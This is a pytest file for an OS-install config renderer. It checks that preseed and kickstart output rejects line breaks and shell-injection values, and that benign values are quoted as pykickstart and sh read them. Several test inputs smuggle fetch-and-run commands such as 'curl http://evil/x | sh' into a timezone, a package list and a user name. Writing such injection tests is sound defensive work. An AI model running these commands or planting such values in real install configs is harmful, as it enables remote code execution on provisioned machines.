"""Preseed and kickstart take no raw line breaks from variables, and quote what reaches shell and
kickstart option lines (issue 12, item 13). Hostile values get one clear refusal and no config;
benign ones with spaces and quotes come out quoted, as pykickstart and sh read them back."""

from __future__ import annotations

import re
import subprocess
from typing import Any

import pytest
from pykickstart.parser import KickstartParser
from pykickstart.version import makeVersion

from dgxie.boot.validate import RenderError
from dgxie.install import seed
from tests.support.lifecycle import node, site

INJECT_PRESEED = "UTC\nd-i preseed/late_command string wget -qO- http://evil/x | sh"
INJECT_KICKSTART = "vim\n%end\n%post --nochroot\ncurl http://evil/x | sh\n%end\n%packages"


@pytest.mark.parametrize(("os", "artifact", "nvars", "key", "what"), [
    ("debian", "preseed", {"timezone": INJECT_PRESEED}, "timezone", "a newline"),
    ("debian", "preseed", {"late_commands": ["true", "echo a\rd-i x/y string z"]}, "late_commands", "a carriage return"),
    ("debian", "preseed", {"os_disks": ["/dev/sda\x00"]}, "os_disks", "a NUL character"),
    ("rhel", "kickstart", {"packages": [INJECT_KICKSTART]}, "packages", "a newline"),
    ("rhel", "kickstart", {"install_url": "http://m/\n%post\nid\n%end"}, "install_url", "a newline"),
    ("rhel", "kickstart", {"early_commands": ["true\n%end"]}, "early_commands", "a newline"),
])
def test_a_line_break_in_a_variable_is_refused(os: str, artifact: str, nvars: dict[str, Any], key: str,
                                               what: str) -> None:
    with pytest.raises(RenderError) as exc:
        seed.render(site(), node(os, node_vars=nvars), artifact)
    msg = exc.value.detail
    assert f"({artifact}): {key}: contains {what} (from the node layer)" in msg, msg
    assert "evil" not in msg and "\n" not in msg  # the refusal names the variable, never echoes the value


def test_the_site_layer_is_named_and_unused_variables_do_not_matter() -> None:
    with pytest.raises(RenderError, match=r"domain: contains a newline \(from the site layer\)"):
        seed.render(site(site_vars={"domain": "lab\nd-i x/y string z"}), node("debian"), "preseed")
    # vendor_data is Ubuntu's: a multi-line cloud-config there is fine, a preseed never reads it
    ok = {"vendor_data": {"write_files": [{"path": "/x", "content": "a\nb\n"}]}}
    assert seed.render(site(), node("debian", node_vars=ok), "preseed").text


@pytest.mark.parametrize(("os", "artifact"), [("debian", "preseed"), ("rhel", "kickstart"), ("ubuntu", "user-data")])
@pytest.mark.parametrize("user", ["x; curl http://evil/x | sh #", "root'", "Admin", "-rf", "a" * 33, "$(id)"])
def test_admin_user_must_be_a_user_name(os: str, artifact: str, user: str) -> None:
    with pytest.raises(RenderError, match=r"admin_user: .* is not a user name"):
        seed.render(site(), node(os, node_vars={"admin_user": user}), artifact)


KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGmB5x8o O'Brien \"laptop\" key"
HASH = "$6$rounds=5000$salt$Zm9vYmFy/x.y"


def test_kickstart_option_values_are_quoted_as_pykickstart_reads_them() -> None:
    nvars = {"admin_user": "ops_1", "admin_password_hash": HASH, "timezone": "America/Argentina/Buenos_Aires",
             "install_url": "http://m/rocky 9/BaseOS?a=b&c=d", "os_disks": ["/dev/nvme0n1", "/dev/nvme1n1"],
             "disk_layout": "raid1"}
    text = seed.render(site(site_vars={"ssh_authorized_keys": [KEY]}), node("rhel", node_vars=nvars), "kickstart").text
    assert "--password='$6$rounds" in text and "--url='http://m/rocky 9/" in text
    parser = KickstartParser(makeVersion())
    parser.readKickstartFromString(text)
    h = parser.handler
    [user] = h.user.userList
    assert (user.name, user.password, user.isCrypted) == ("ops_1", HASH, True)
    assert [(k.username, k.key) for k in h.sshkey.sshUserList] == [("ops_1", KEY)]
    assert h.url.url == "http://m/rocky 9/BaseOS?a=b&c=d" and h.timezone.timezone == "America/Argentina/Buenos_Aires"


def test_preseed_late_command_is_one_shell_line_that_sh_accepts() -> None:
    cmds = ["echo 'it works' > /target/etc/motd", 'printf "%s\\n" "a b" >> /target/etc/motd']
    text = seed.render(site(), node("debian", node_vars={"admin_user": "ops-1", "late_commands": cmds}), "preseed").text
    logical = re.search(r"^d-i preseed/late_command string (.*?[^\\])$", text.replace("\\\n", " "), re.M)
    assert logical is not None
    line = logical.group(1)
    assert all(c in line for c in cmds) and "/home/ops-1/.ssh" in line
    assert subprocess.run(["sh", "-n", "-c", line], capture_output=True).returncode == 0
